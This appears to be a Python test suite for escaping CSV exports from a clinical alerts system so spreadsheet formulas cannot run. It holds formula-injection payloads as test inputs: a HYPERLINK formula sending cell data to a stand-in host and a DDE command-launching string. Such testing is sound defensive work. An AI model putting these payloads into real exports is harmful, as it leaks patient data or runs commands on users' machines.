"""Every CSV cell is spreadsheet-safe: identifiers and ward names from the EHR included."""

from __future__ import annotations

import csv
import io
import re
from types import SimpleNamespace

from aw_fakes import score_event
from hypothesis import given
from hypothesis import strategies as st

from alerts_web.alerts.reports import RiskReport, render_csv
from alerts_web.csv_cells import (
    FIELD_SEPARATORS,
    FORMULA_TRIGGERS,
    FormulaSafeWriter,
    escape_cell,
)

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_hostile_ward_and_identifiers_reach_the_file_inert() -> None:
    event = score_event(ward=HOSTILE, encounter_id="+cmd|' /C calc'!A0", patient_id="@SUM(1)")
    report = RiskReport(event=event, history=[], actions=[])
    rows = list(csv.reader(io.StringIO(render_csv(report))))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or _is_number(cell), cell
    score = rows[1]
    assert score[1:4] == ["'+cmd|' /C calc'!A0", "'@SUM(1)", "'" + HOSTILE]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_negative_numbers_stay_numbers() -> None:
    assert escape_cell("-0.05") == "-0.05"
    assert escape_cell("-1e-3") == "-1e-3"
    assert escape_cell(-0.05) == -0.05
    assert escape_cell("-") == "'-"
    assert escape_cell("\tx") == "'\tx"
    assert escape_cell("\r=1") == "'\r'=1"  # CR starts a formula and ends a line


# Cells rich in what matters (triggers, separators, quotes, digits), and any text at all
CELLS = st.one_of(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n,;\"'a1.e "))), st.text())
SPLITS = [re.escape(sep) for sep in FIELD_SEPARATORS] + [
    "[" + re.escape("".join(FIELD_SEPARATORS)) + "]"
]


def _starts_formula(field: str) -> bool:
    """What a spreadsheet would run: a trigger first (a quoted field included), not a number."""
    return field.lstrip('"').startswith(FORMULA_TRIGGERS) and not _is_number(field)


def test_a_formula_after_a_separator_is_escaped() -> None:
    assert escape_cell("semi;=1+1") == "semi;'=1+1"
    hostile = 'pat;=HYPERLINK("http://evil.example")'  # the tester's patient id
    assert escape_cell(hostile) == "pat;'" + hostile[4:]
    assert escape_cell("a,@SUM(1)\t+1\n-2") == "a,'@SUM(1)\t'+1\n'-2"
    assert escape_cell("a\t\t=1") == "a\t'\t'=1"  # a tab is both separator and trigger
    assert escape_cell('x;"=1"') == 'x;\'"=1"'  # a quoted field starting with = is a formula
    assert escape_cell("a;b, c-d") == "a;b, c-d"  # no trigger at a field's start: unchanged


@given(CELLS)
def test_no_field_of_an_escaped_cell_can_start_a_formula(text: str) -> None:
    """Whatever a spreadsheet splits the cell on, no field starts a formula, and only
    apostrophes were added."""
    cell = escape_cell(text)
    assert cell.replace("'", "") == text.replace("'", "")
    for split in SPLITS:
        for field in re.split(split, cell):
            assert not _starts_formula(field) or field == cell, (split, field)


@given(st.lists(st.lists(CELLS, min_size=1, max_size=4), min_size=1, max_size=3))
def test_an_export_read_with_any_separator_starts_no_formula(rows: list[list[str]]) -> None:
    """The file as a semicolon-locale Excel (or a paste) splits it: the raw text, not
    what a comma CSV reader makes of it; and a comma reader still gets the cells back."""
    out = io.StringIO()
    FormulaSafeWriter(out).writerows(rows)
    raw = out.getvalue()
    for separator in FIELD_SEPARATORS:  # rows are always split on the line ends as well
        for field in re.split("[" + re.escape(separator + "\r\n") + "]", raw):
            assert not _starts_formula(field), (separator, field)
    back = list(csv.reader(io.StringIO(raw, newline="")))
    assert [[c.replace("'", "") for c in row] for row in back] == [
        [c.replace("'", "") for c in row] for row in rows
    ]


def test_notes_are_escaped_once() -> None:
    action = SimpleNamespace(
        at=score_event().computed_at,
        actor="nurse",
        kind="note",
        note="=1+1",
        intervention_code="",
        assignee=None,
        get_kind_display=lambda: "Note",
    )
    report = RiskReport(event=score_event(), history=[], actions=[action])
    assert render_csv(report).splitlines()[-1].endswith(",'=1+1")
